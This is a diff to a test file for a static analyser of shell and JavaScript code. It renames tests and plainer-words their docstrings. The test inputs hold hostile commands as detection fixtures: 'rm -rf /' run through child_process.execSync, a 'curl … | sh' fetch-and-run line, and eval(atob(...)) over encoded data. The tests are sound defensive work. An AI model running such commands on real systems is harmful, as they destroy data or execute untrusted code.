@@ -36,21 +36,21 @@ def _judged(analysis: Analysis) -> bool:
 
 @settings(max_examples=300, deadline=None)
 @given(_pieces(_SHELL_BITS))
-def test_any_shell_is_judged(source: str) -> None:
+def test_any_shell_is_analysed(source: str) -> None:
     """Random pieces of shell are read without a crash."""
     assert _judged(analyse(source, _SH))
 
 
 @settings(max_examples=300, deadline=None)
 @given(_pieces(_SCRIPT_BITS))
-def test_any_javascript_is_judged(source: str) -> None:
+def test_any_javascript_is_analysed(source: str) -> None:
     """Random pieces of JavaScript are read without a crash."""
     assert _judged(analyse(source, _JS))
 
 
 @settings(max_examples=200, deadline=None)
 @given(st.text(max_size=200), st.sampled_from([_JS, _SH]))
-def test_any_text_is_judged(source: str, language: Language) -> None:
+def test_any_text_is_analysed(source: str, language: Language) -> None:
     """Random text is read without a crash."""
     assert _judged(analyse(source, language))
 
@@ -90,20 +90,20 @@ def test_bombs_are_bounded(language: Language, source: str) -> None:
 
 
 @pytest.mark.parametrize("times", [10, 100, 5000])
-def test_a_name_handed_on_for_ever_is_followed_to_its_use(times: int) -> None:
+def test_a_chain_of_aliases_is_followed_to_its_use(times: int) -> None:
     """However many names a callable goes through, its call is what it is."""
     names = "".join(f"const a{n} = a{n - 1};\n" for n in range(1, times))
     code = f"const a0 = require('child_process').execSync;\n{names}a{times - 1}('rm -rf /');\n"
     assert "sh-rm-tree" in {found.rule for found in analyse(code, Language.JAVASCRIPT).violations}
 
 
-def test_names_that_are_not_followed_to_their_end_are_said() -> None:
+def test_aliases_that_are_not_followed_are_reported() -> None:
     """What is declared only after its use, hundreds of times over, is not read silently in part."""
     code = "".join(f"var b{n} = [b{n + 1}];\n" for n in range(300)) + "f(b0);\n"
     assert "input-too-deep" in {found.rule for found in analyse(code, Language.JAVASCRIPT).violations}
 
 
-def test_more_decoded_code_than_is_read_is_still_decoded_code() -> None:
+def test_truncated_decoded_code_is_still_reported() -> None:
     """What decodes to more than is kept is HIGH all the same."""
     code = f"eval(atob('{'QUFB' * 30_000}'))"
     assert ("js-eval", Level.HIGH) in {
@@ -113,7 +113,7 @@ def test_more_decoded_code_than_is_read_is_still_decoded_code() -> None:
 
 @pytest.mark.parametrize("opening", ["$(", 'echo "$(', "<("])
 @pytest.mark.parametrize("closed", [True, False])
-def test_substitutions_within_hundreds_of_others_are_not_read_and_said(opening: str, closed: bool) -> None:
+def test_deeply_nested_substitutions_are_reported_as_unread(opening: str, closed: bool) -> None:
     """They would be read once for every one around them; a flat line behind them is read."""
     closing = (')"' if '"' in opening else ")") * (5000 if closed else 0)
     found = analyse(f"{opening * 5000}x{closing}\nrm -rf /\n", Language.SHELL)
@@ -122,8 +122,8 @@ def test_substitutions_within_hundreds_of_others_are_not_read_and_said(opening: 
     assert closed <= ("sh-rm-tree" in rules)
 
 
-def test_substitutions_that_a_person_writes_are_read() -> None:
-    """A few within each other are no nesting to speak of."""
+def test_ordinary_nested_substitutions_are_read() -> None:
+    """A few levels of nesting are analysed."""
     found = analyse('echo "$(a "$(b "$(c "$(curl http://a.example | sh)")")")"\n', Language.SHELL)
     assert "input-too-deep" not in {one.rule for one in found.violations}
     assert found.complete
@@ -131,7 +131,7 @@ def test_substitutions_that_a_person_writes_are_read() -> None:
 
 @pytest.mark.parametrize("around", [1, 60])
 def test_thousands_of_doublings_are_read_once(around: int) -> None:
-    """One in each of many loops, or all within the same ones; loops of a few turns are told apart."""
+    """One in each of many loops, or all in the same loops; short loops are distinguished."""
     few = "for (let i = 0; i < 3; i++) { s += s; }\n"
     many = "for(;;){" * around + "s += s;" * (1 if around == 1 else 5000) + "}" * around + "\n"
     code = "let s = 'a';\n" + few * 2000
